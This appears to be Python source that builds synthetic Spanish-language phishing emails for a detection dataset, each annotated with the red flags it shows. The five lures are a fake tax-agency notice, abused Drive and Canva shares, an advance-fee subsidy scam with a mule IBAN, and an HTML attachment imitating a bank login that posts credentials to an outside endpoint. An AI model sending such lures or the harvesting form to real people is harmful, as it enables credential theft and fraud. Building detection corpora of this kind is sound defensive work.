"""Attack messages, Spanish (27-31)."""

from lib import co, ids, smtp, systems
from lib.mime import Part
from lib.msg import esc, simple_html
from lib.systems import H
from messages.common import (D, S, alt, footer, mixed, ms_msgid, outlook_att, outlook_bnd, outlook_parts)
from messages.registry import msg

A = "attack"


# --------------------------------------------------------------------- 27
@msg(A, 27, "es", "dehu-notificacion-aeat-falsa")
def a27(m):
    url = "https://sede-agenciatributaria-notificaciones.com/dehu/comparecer?ref=2026-NTF-0047-88213&nif=B04715280"
    m.what = ("'Agencia Tributaria - Notificaciones' says a DEHú notification (ref. 2026-NTF-0047-88213) awaits the Spanish "
              "accountant; the 'Acceder a la notificación' link downloads the act.")
    m.why = ("Tax-agency lure used by Spanish banking-trojan campaigns (Grandoreiro/Mekotio family): sent from a compromised "
             "Microsoft 365 mailbox of a metalworking SME (authentication passes for talleresmolina.es) under the AEAT's "
             "name; link to a look-alike 'sede' domain that serves a ZIP; real DEHú notices come from correo.gob.es and never "
             "link to downloads (compare business/27).")
    h = H(("Agencia Tributaria - Notificaciones", "administracion@talleresmolina.es"), [co.P("es_acc")],
          "Notificación pendiente de comparecencia - Agencia Tributaria (Ref. 2026-NTF-0047-88213)", D(2026, 10, 22, 10, 38, 17),
          hcs="iso-8859-1", henc="Q")
    h.msgid = ms_msgid(m, "eurprd03")
    paras = ["AGENCIA TRIBUTARIA", "Sede Electrónica - Notificaciones", "",
             "Estimado/a contribuyente EXAMPLE INVERNADEROS ESPAÑA S.L. (NIF B04715280):", "",
             "Le comunicamos que tiene a su disposición una notificación electrónica en la Dirección Electrónica Habilitada "
             "única (DEHú) relativa a: REQUERIMIENTO - Impuesto sobre el Valor Añadido, ejercicio 2025.", "",
             "Dispone de un plazo de 10 días naturales para acceder a la notificación. Transcurrido dicho plazo sin que se "
             "acceda a su contenido, la notificación se entenderá practicada conforme al artículo 43 de la Ley 39/2015.", "",
             "Acceder a la notificación: %s" % url, "",
             "Este mensaje se ha generado automáticamente. Por favor, no responda a este correo.", "",
             "Agencia Estatal de Administración Tributaria"]
    t, ht = outlook_parts(m, paras, "iso-8859-1", "quoted-printable", "ES", "EstiloCorreo17", font="Calibri")
    root = alt(t, ht, outlook_bnd(h.msgid, 0))
    return systems.m365(m, h, root, tenant="talleresmolina.es", region="eurprd03", eop="EUR03", eop_dc="PA4",
                        lang="es-ES", accept="es-ES, en-US", ip="40.107.248.%d" % 126)


# --------------------------------------------------------------------- 28
@msg(A, 28, "es", "drive-compartido-cuenta-comprometida")
def a28(m):
    fid = "1" + smtp.ralnum(m.rng, 32, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-")
    url = "https://drive.google.com/file/d/%s/view?usp=sharing_eip&ts=%s" % (fid, smtp.rhex(m.rng, 8))
    m.what = ("Genuine Google Drive share notification: Juan Manuel Callejón (Semilleros del Poniente) shared "
              "'Factura_Proforma_SDP_2026-27.pdf' asking to review and confirm payment.")
    m.why = ("Document-share lure from a compromised real Google Workspace account: Google sends it (authentication passes) and "
             "the sharer is a real supplier contact, but the file is a one-page PDF with a 'Ver factura' link to a credential "
             "page; message text is generic and sent to several customers at once; payment push at an unusual time.")
    h = H(("Juan Manuel Callejón (a través de Google Drive)", "drive-shares-dm-noreply@google.com"), [co.P("es_om")],
          "Documento compartido contigo: \"Factura_Proforma_SDP_2026-27.pdf\"", D(2026, 11, 21, 20, 47, 3),
          reply_to=co.SEMI["jm"])
    h.mail_from = "3%s@doclist.bounces.google.com" % smtp.ralnum(m.rng, 40, "abcdefghijklmnopqrstuvwxyz0123456789")
    text = ("Juan Manuel Callejón (jmcallejon@semillerosdelponiente.es) ha compartido el siguiente documento:\n\n"
            "Factura_Proforma_SDP_2026-27.pdf\n%s\n\n"
            "\"Buenas tardes, adjunto factura proforma del pedido de planta injertada para la campaña 2026-27. Por favor, "
            "revisadla y confirmad el pago antes del lunes para reservar la siembra. Un saludo.\"\n\n"
            "Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA\n"
            "Has recibido este correo electrónico porque jmcallejon@semillerosdelponiente.es ha compartido un documento contigo "
            "desde Google Drive.\n") % url
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body style="margin:0;'
            'font-family:Google Sans,Roboto,Arial,sans-serif"><table width="100%%" cellpadding="0" cellspacing="0"><tr><td '
            'align="center" style="padding:24px"><table width="580" cellpadding="0" cellspacing="0" style="border:1px solid '
            '#dadce0;border-radius:8px"><tr><td style="padding:24px;font-size:14px;color:#202124"><div style="font-size:20px;'
            'padding-bottom:16px">Juan Manuel Callejón ha compartido un documento</div><div><b>Juan Manuel Callejón</b> '
            '(jmcallejon@semillerosdelponiente.es) ha compartido el siguiente documento:</div><div style="padding:16px 0">'
            '<a href="%s" style="color:#1a73e8;text-decoration:none;font-size:15px">&#128196; Factura_Proforma_SDP_2026-27.pdf</a>'
            '</div><div style="background:#f1f3f4;padding:12px;border-radius:6px;color:#3c4043">Buenas tardes, adjunto factura '
            'proforma del pedido de planta injertada para la campaña 2026-27. Por favor, revisadla y confirmad el pago antes del '
            'lunes para reservar la siembra. Un saludo.</div><div style="padding-top:18px"><a href="%s" style="background:#1a73e8;'
            'color:#fff;padding:10px 22px;border-radius:4px;text-decoration:none">Abrir</a></div></td></tr></table>'
            '<p style="font-size:12px;color:#5f6368">Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA<br>Has '
            'recibido este correo electrónico porque jmcallejon@semillerosdelponiente.es ha compartido un documento contigo desde '
            'Google Drive.</p></td></tr></table></body></html>\n') % (esc(url), esc(url))
    root = alt(m.text(text, "UTF-8", "quoted-printable"), m.html(html, "UTF-8", "quoted-printable"), m.boundary("gmail"))
    return systems.google_notify(m, h, root)


# --------------------------------------------------------------------- 29
@msg(A, 29, "es", "canva-remesa-pago")
def a29(m):
    url = ("https://www.canva.com/design/DAG%s/%s/view?utm_content=DAG%s&utm_campaign=designshare&utm_medium=link2"
           "&utm_source=uniquelinks&utlId=h%s") % (smtp.ralnum(m.rng, 8), smtp.ralnum(m.rng, 22), smtp.ralnum(m.rng, 8),
                                                   smtp.rhex(m.rng, 10))
    m.what = ("Genuine Canva notification: 'Contabilidad Hortofrutícola Levante' shared a design 'Remesa de pago noviembre - "
              "Example Invernaderos' with the Spanish accountant.")
    m.why = ("Real platform abused: Canva itself sends the mail (authentication passes) but the sharing account is an "
             "unknown 'accounting' name; the 'design' is a one-page fake remittance with a button to a credential page; "
             "nobody in the group's supply chain sends remittances through a design tool.")
    h = H(("Canva", "no-reply@canva.com"), [co.P("es_acc")],
          "Contabilidad Hortofrutícola Levante ha compartido un diseño contigo", D(2026, 11, 17, 12, 9, 36))
    text = ("Contabilidad Hortofrutícola Levante ha compartido un diseño contigo\n\n"
            "\"Remesa de pago noviembre - Example Invernaderos\"\n\n"
            "Buenos días, le enviamos el detalle de la remesa de pago correspondiente a noviembre. Puede consultarlo en el "
            "siguiente enlace.\n\n"
            "Abrir diseño: %s\n\n"
            "Canva Pty Ltd, 110 Kippax Street, Surry Hills, NSW 2010, Australia\n") % url
    html = ('<!DOCTYPE html><html lang="es"><head><meta charset="utf-8"></head><body style="margin:0;background:#f6f6f8;'
            'font-family:\'Canva Sans\',Helvetica,Arial,sans-serif"><table width="100%%" cellpadding="0" cellspacing="0"><tr><td '
            'align="center" style="padding:32px"><table width="520" style="background:#fff;border-radius:12px" cellpadding="0" '
            'cellspacing="0"><tr><td style="padding:28px 32px 8px 32px;font-size:26px;font-weight:bold;color:#7d2ae8">Canva</td></tr>'
            '<tr><td style="padding:8px 32px;font-size:18px;color:#0e1318"><b>Contabilidad Hortofrutícola Levante</b> ha compartido '
            'un diseño contigo</td></tr><tr><td style="padding:12px 32px"><div style="border-radius:8px;background:#f2f3f5;'
            'padding:18px;font-size:15px"><b>Remesa de pago noviembre - Example Invernaderos</b><br><span style="color:#555">'
            'Buenos días, le enviamos el detalle de la remesa de pago correspondiente a noviembre. Puede consultarlo en el '
            'siguiente enlace.</span></div></td></tr><tr><td style="padding:16px 32px 28px 32px"><a href="%s" style="background:'
            '#8b3dff;color:#fff;padding:12px 24px;border-radius:8px;text-decoration:none;font-weight:bold">Abrir diseño</a></td>'
            '</tr></table><p style="font-size:11px;color:#888">Canva Pty Ltd, 110 Kippax Street, Surry Hills, NSW 2010, Australia'
            '</p></td></tr></table></body></html>\n') % esc(url)
    root = alt(m.text(text, "UTF-8", "quoted-printable"), m.html(html, "UTF-8", "quoted-printable"), m.boundary("ses"))
    return systems.ses(m, h, root, region="us-east-1", ip="54.240.8.%d" % 61, dkim_d="canva.com", dkim_s="l5y5ey2xwcsjjwqgvjbgfnvjlgkb2yzc",
                       mail_from="010001%s@mail.canva.com" % smtp.rhex(m.rng, 24), host="a8-61.smtp-out.amazonses.com")


# --------------------------------------------------------------------- 30
@msg(A, 30, "es", "justificante-transferencia-html-banco")
def a30(m):
    post = "https://cajamar-justificantes.web.app/validar"
    m.what = ("'Departamento de Pagos - Frutas Almeriplan' sends a transfer receipt (remesa 2026/11/0388, 36.912,40 EUR) as an "
              "HTML file that opens a Cajamar online-banking login to 'view the receipt'.")
    m.why = ("Bank credential phishing via HTML attachment: the local page imitates Cajamar (the Spanish entity's own bank) and "
             "posts user ID and password to a Firebase-hosted endpoint; sender is an unknown 'customer' domain on Amazon SES; "
             "lure amount is a large incoming payment.")
    m.dmarc_policy = {"almeriplan-frutas.es": "none"}
    h = H(("Departamento de Pagos - Frutas Almeriplan", "pagos@almeriplan-frutas.es"), [co.P("es_acc")],
          "Justificante de transferencia - Remesa 2026/11/0388", D(2026, 11, 27, 8, 12, 50))
    text = ("Buenos días,\n\nles remitimos el justificante de la transferencia correspondiente a la remesa 2026/11/0388 por importe "
            "de 36.912,40 EUR (facturas de octubre). El documento está protegido; para visualizarlo ábralo en el navegador y "
            "valide con sus credenciales de banca electrónica.\n\nUn saludo,\n\nDepartamento de Pagos\nFrutas Almeriplan S.A.\n")
    page = ('<!DOCTYPE html>\n<html lang="es"><head><meta charset="utf-8"><title>Cajamar - Justificante de operación</title>\n'
            '<style>body{font-family:Arial,sans-serif;background:#eef2f0;margin:0}.h{background:#00664e;color:#fff;padding:16px 24px;'
            'font-size:20px;font-weight:bold}.c{max-width:420px;margin:40px auto;background:#fff;padding:28px;border-radius:6px}'
            'label{font-size:13px;color:#333}input{width:100%%;padding:9px;margin:6px 0 14px 0;border:1px solid #b9c4bf}'
            'button{background:#00664e;color:#fff;border:0;padding:11px;width:100%%;font-size:15px}'
            '.r{background:#f5f8f6;padding:10px;font-size:13px;margin-bottom:16px}</style></head>\n'
            '<body><div class="h">Cajamar &middot; Banca Electrónica Empresas</div><div class="c">'
            '<div class="r">Justificante de transferencia recibida<br><b>Remesa 2026/11/0388 &middot; 36.912,40 EUR</b><br>'
            'Ordenante: FRUTAS ALMERIPLAN S.A.</div><p style="font-size:13px">Por su seguridad, identifíquese para visualizar el '
            'documento.</p><form method="post" action="%s">\n<label>Usuario (NIF/CIF)</label><input name="usuario" value="B04715280">\n'
            '<label>Clave de acceso</label><input name="clave" type="password">\n<label>Coordenada de firma (tarjeta)</label>'
            '<input name="coord" type="password">\n<button type="submit">Ver justificante</button></form></div></body></html>\n') % post
    m.fact("URL", post)
    att = m.att(page.encode("utf-8"), "text/html", "Justificante_Transferencia_Remesa_0388.html", cte="base64")
    att.charset = "utf-8"
    root = mixed([alt(m.text(text, "UTF-8", "quoted-printable"), m.html(simple_html(text.strip().split("\n\n")), "UTF-8",
                                                                        "quoted-printable"), m.boundary("ses")), att],
                 m.boundary("ses"))
    return systems.ses(m, h, root, region="eu-west-1", ip="54.240.7.%d" % 19, dkim_d="almeriplan-frutas.es")


# --------------------------------------------------------------------- 31
@msg(A, 31, "es", "subvencion-tasa-tramitacion")
def a31(m):
    mule = ids.make_iban("LT", "32500" + "11984736021")
    tel = m.tel("+34 911 23 48 61")
    m.what = ("'Oficina de Gestión de Fondos Europeos' says the Spanish entity was awarded 48,500 EUR for greenhouse modernisation "
              "(PERTE Agroalimentario) and must pay a 1,250 EUR processing fee to release it.")
    m.why = ("Advance-fee fraud with a farm-subsidy story: free Outlook.es account, official-sounding office that does not exist, "
             "fee payable to a Lithuanian EMI account, tight deadline, phone number for 'questions'; Spanish grants never "
             "require an up-front fee.")
    h = H(("Oficina de Gestión - Fondos Europeos", "gestion.fondoseuropeos@outlook.es"), [co.P("es_om")],
          "Resolución favorable - Ayuda modernización de invernaderos - Expediente AG-2026-04471", D(2026, 12, 14, 17, 25, 19),
          hcs="iso-8859-1", henc="Q")
    text = ("Estimados señores:\n\n"
            "Nos complace comunicarles que la solicitud presentada por EXAMPLE INVERNADEROS ESPAÑA S.L. dentro de la línea de "
            "ayudas para la modernización y digitalización de invernaderos (PERTE Agroalimentario, Fondos Next Generation EU) "
            "ha sido resuelta favorablemente, por un importe de 48.500,00 EUR (expediente AG-2026-04471).\n\n"
            "Para proceder a la liberación de los fondos es necesario abonar la tasa de tramitación y registro del expediente, "
            "por importe de 1.250,00 EUR, en un plazo de 5 días hábiles en la siguiente cuenta de la entidad gestora:\n\n"
            "Beneficiario: EU Grants Processing Services\nIBAN: %s\nBIC: REVOLT21\nConcepto: AG-2026-04471\n\n"
            "Una vez recibido el pago, la transferencia de la ayuda se realizará en un plazo de 72 horas. Para cualquier "
            "consulta pueden contactar con el gestor asignado en el teléfono %s.\n\n"
            "Atentamente,\n\nLic. Ramón Ortega Villalba\nOficina de Gestión de Fondos Europeos\n") % (ids.fmt_iban(mule), tel)
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"><style type="text/css" '
            'style="display:none;">P {margin-top:0;margin-bottom:0;}</style></head><body dir="ltr">' +
            "".join('<div style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; '
                    'font-size: 12pt; color: rgb(0, 0, 0);">%s</div><div><br></div>' % esc(p).replace("\n", "<br>")
                    for p in text.strip().split("\n\n")) + "</body></html>\n")
    b = "_000_" + "PAXP190MB" + smtp.rhex(m.rng, 24, True) + "_"
    root = alt(m.text(text, "iso-8859-1", "quoted-printable"), m.html(html, "iso-8859-1", "quoted-printable"), b)
    return systems.outlook_com(m, h, root, lang="es-ES")
